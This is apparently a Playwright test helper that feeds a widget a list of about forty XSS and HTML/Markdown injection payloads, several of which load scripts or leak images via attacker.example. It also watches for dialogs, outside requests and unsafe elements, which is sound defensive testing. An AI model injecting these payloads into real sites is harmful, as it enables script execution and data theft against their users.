/** Words that try to become more than words; each would set `window.pwned`, open a dialog, or fetch from elsewhere. */
import type { Page } from "@playwright/test";

export const HOSTILE: readonly string[] = [
  "<script>window.pwned=1</script>",
  "<script src=//attacker.example/x.js></script>",
  "<svg onload=window.pwned=1>",
  "<svg/onload=alert(1)//",
  "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:window.pwned=1><text y=9>x</text></a></svg>",
  "<svg><script>window.pwned&#61;1</script></svg>",
  "<img src=x onerror=window.pwned=1>",
  "<img src=x:x onerror=alert(1)>",
  "<img srcset=//attacker.example/x.png>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<iframe src=javascript:parent.pwned=1></iframe>",
  "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==>",
  "<embed src=//attacker.example/x.swf>",
  '<a href="javascript:window.pwned=1">x</a>',
  "<body onload=window.pwned=1>",
  "<input autofocus onfocus=window.pwned=1>",
  "<details open ontoggle=window.pwned=1>x</details>",
  "<video src=//attacker.example/x.mp4 autoplay onerror=window.pwned=1>",
  "<form action=//attacker.example/><button autofocus>x</button></form>",
  "<base href=//attacker.example/>",
  "<link rel=stylesheet href=//attacker.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//attacker.example/'>",
  "<style>@import '//attacker.example/x.css';</style>",
  "<div style=background:url(//attacker.example/x.png)>x</div>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'>",
  "<template><img src=x onerror=window.pwned=1></template>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](java&#x09;script:window.pwned=1)",
  "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
  "[x](vbscript:window.pwned=1)",
  '[x](https://x.example/"onmouseover="window.pwned=1)',
  "![x](https://attacker.example/leak.png)",
  "![x](javascript:window.pwned=1)",
  "<javascript:window.pwned=1>",
  "`<img src=x onerror=window.pwned=1>`",
  "\u202ejavascript:window.pwned=1",
  "\u2066<script>window.pwned=1</script>\u2069\u202e>gmi<",
  '"><script>window.pwned=1</script>',
  "';window.pwned=1;//",
  "{{constructor.constructor('window.pwned=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that nobody fills in
  "${window.pwned=1}",
];

/** What a page did that it must not do. */
export class Watch {
  readonly broken: string[] = [];

  constructor(
    private readonly page: Page,
    origins: readonly string[],
  ) {
    page.on("dialog", (dialog) => {
      this.broken.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const { protocol, origin } = new URL(request.url());
      const isOutside = protocol === "data:" ? request.isNavigationRequest() : !origins.includes(origin);
      if (isOutside && protocol !== "blob:") this.broken.push(`a request to ${request.url()}`);
    });
  }

  /** Look at the page as it stands, in shadow roots too. */
  async look(where: string): Promise<string[]> {
    const found = await this.page.evaluate(() => {
      const roots = [document, document.querySelector("[data-xin-widget]")?.shadowRoot].filter((each) => !!each);
      const elements = roots.flatMap((root) => [...root.querySelectorAll("body *, .panel *")]);
      const wild = "script:not([src]), iframe, object, embed, link, meta, base, style, video, audio, math, template";
      const strange = elements.filter(
        (element) =>
          element.matches(wild) ||
          element.getAttributeNames().some((name) => name.startsWith("on")) ||
          (element.matches("a[href]") && !/^(https?:|mailto:|tel:|\/|#)/.test(element.getAttribute("href") ?? "")) ||
          (element.matches("img") && !/^(blob:|\/)/.test(element.getAttribute("src") ?? "")),
      );
      return ["pwned" in window ? "a script ran" : "", ...strange.map((each) => each.outerHTML.slice(0, 200))].filter(
        Boolean,
      );
    });
    return [...this.broken, ...found].map((each) => `${where}: ${each}`);
  }
}
